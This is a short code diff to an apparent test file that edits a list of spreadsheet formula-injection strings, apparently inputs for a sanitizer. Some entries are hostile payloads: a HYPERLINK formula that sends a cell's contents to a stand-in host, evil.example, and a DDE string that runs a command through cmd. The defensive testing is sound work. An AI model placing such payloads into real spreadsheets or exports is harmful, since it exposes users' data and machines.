@@ -62,7 +62,6 @@ const inOrderOfTime = (a: Entry, b: Entry) =>
 const formulas = [
   '=1+1',
   '=1+1\nfoo',
-  'foo\n=1+1'.slice(4),
   '=HYPERLINK("https://evil.example?x="&A1,"click")',
   "=cmd|' /C calc'!A0",
   '@SUM(1)',
@@ -73,7 +72,7 @@ const formulas = [
   '   @SUM(1)',
   '\u00a0=1',
   '\u3000=1',
-  '\ufeff=1',
+  ' \ufeff=1',
   '＝1+1',
   '＋1',
   '－1',
